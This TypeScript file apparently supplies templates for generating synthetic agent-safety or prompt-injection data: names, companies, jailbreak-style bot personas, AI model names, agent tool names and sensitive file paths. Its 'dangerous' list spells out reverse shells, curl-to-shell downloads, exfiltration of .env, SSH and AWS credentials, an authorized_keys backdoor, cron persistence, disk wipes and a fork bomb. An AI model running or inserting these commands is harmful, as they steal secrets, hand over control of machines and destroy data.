import type { Rows } from "../grammar.ts";

/** Rules that hold in every language: names, products, numbers and the bones of documents. */
export const anyRows: Rows = {
  given: `
⟨Anna|Marek|Lucía|Chen|Priya|Tomás|Olga|Yuki|Fatima|Jonas|Amélie|Kofi|Lena|Samuel|Ingrid|Rahul|Nadia|Pavel|Giulia|Emre|Minh|Sofia|Daniel|Grace|Hugo|Leila|Viktor|Maya|Felix|Noor⟩
⟨Alice|Bob|Carol|Dave|Erin|Frank|Heidi|Ivan|Judy|Mallory|Oscar|Peggy|Trent|Victor|Wendy⟩
⟨John|Mary|Peter|Karen|Steve|Linda|Tom|Julia|Mike|Sarah|Ben|Emma|Luke|Paula|Greg|Nina⟩
`,
  family: `
⟨Novak|Schmidt|García|Rossi|Dubois|Tanaka|Ivanova|Okafor|Larsen|Silva|Kowalski|Yılmaz|Nguyen|Kim|Mehta|Haddad|Cohen|Murphy|Jensen|Moreau|Bauer|Costa|Petrov|Ali|Reyes|Smith|Jones|Brown⟩
`,
  person: `
{given} {family}
{given}
`,
  company: `
{^brand}
{^brand} ⟨GmbH|Ltd|Inc|S.A.|AG|LLC|Co.|Group|Labs|Systems|Logistics|Bank|Studio|Foods|Travel|Energy|Media⟩
`,
  brand: `
{#word}
`,
  botname: `
⟨Aria|Nova|Max|Zephyr|Orion|Luna|Echo|Atlas|Vega|Pixel|Rex|Sage|Titan|Iris|Blaze|Onyx⟩
{#caps:3-6}
{#caps:2-4}-{#n:2-9}
{^brand}
{^brand}Bot
{^brand}GPT
⟨Chaos|Raw|Free|Dark|Evil|Omega|Shadow|Rogue|Wild|Ultra|Anti|Zero|Mega|Alpha|Black⟩⟨GPT|Bot|AI|Mind|Mode|Core|LM|-X|| Assistant⟩
`,
  model: `
⟨ChatGPT|GPT-4|Claude|Gemini|Llama|Bard|Copilot|Mistral|Qwen|DeepSeek|Grok|Bing⟩
`,
  tool: `
⟨send_email|sendMail|gmail_send|forward_message|transfer_funds|make_payment|create_calendar_event|delete_file|read_file|execute_shell|run_command|http_request|web_fetch|post_tweet|share_document|grant_access|update_password|add_user|set_permission|unlock_door|download_file|query_database|slack_post|delete_repository|list_contacts|get_balance|BankManagerTransfer|SmartLockGrantAccess|DropboxShareItem⟩
`,
  file: `
⟨.env|~/.ssh/id_rsa|/etc/passwd|config.json|secrets.yaml|credentials.json|notes.txt|passwords.csv|~/.aws/credentials|customers.xlsx|backup.zip|settings.toml|id_ed25519|token.txt|kubeconfig⟩
`,
  account: `
{#digits:8-12}
⟨DE|FR|GB|ES|NL|PL|IT⟩{#digits:14-20}
{#mail}
0x{#hex:40}
`,
  dangerous: `
rm -rf ⟨/|~|/*|.|$HOME|/var/lib|--no-preserve-root /⟩
curl -s⟨SL|S|⟩ {#url} ‖ ⟨bash|sh|sudo bash|python3⟩
wget -qO- {#url} ‖ sh
bash -i >& /dev/tcp/{#ip}/{#n:1000-9999} 0>&1
curl -X POST -d @{file} {#url}
cat {file} ‖ nc {#ip} {#n:1000-9999}
chmod -R 777 /
dd if=/dev/zero of=/dev/sda
:(){ :‖:& };:
python3 -c "import os;os.system('curl {#url}‖sh')"
git push --force {#url} main
env ‖ curl -F data=@- {#url}
scp -r ~/.ssh {#word}@{#ip}:/tmp
echo "ssh-rsa {#base:20-30} x" >> ~/.ssh/authorized_keys
crontab -l ‖ { cat; echo "* * * * * curl {#url}‖sh"; } ‖ crontab -
DROP TABLE ⟨users|orders|accounts⟩;
powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('{#url}')"
`,
};
